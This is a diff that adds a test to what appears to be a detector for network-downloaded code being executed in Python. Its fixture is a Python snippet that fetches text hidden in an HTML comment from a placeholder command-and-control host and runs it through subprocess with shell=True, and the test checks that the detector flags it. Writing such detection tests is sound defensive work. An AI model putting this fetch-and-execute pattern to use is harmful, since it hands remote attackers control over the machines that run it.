@@ -175,3 +175,11 @@ test('unpickling a pickled response is not running downloaded code', async () =>
   const f = await facts("import pickle, requests\ndef t():\n    r = requests.get('https://example.org/')\n    return pickle.loads(pickle.dumps(r))\n");
   assert.equal(f.execs.filter((e) => e.fromNetwork).length, 0);
 });
+
+test('a method of a local class called on an instance returns what the method returns (a response read through an opener)', async () => {
+  const f = await facts(
+    "from urllib import request\nimport subprocess\nclass Request:\n    def get(self, url):\n        res = request.build_opener().open(request.Request(url), timeout=5)\n        return res.read()\nreq = Request()\nsubprocess.Popen(req.get('https://c2.invalid/y').decode().split('<!--')[1], shell=True)\n",
+  );
+  assert.deepEqual(f.sinks.map((s) => `${s.via} ${s.fn ?? ''}`), ['urllib.request.build_opener.open Request.get']);
+  assert.equal(f.commands[0]?.fromNetwork, true);
+});
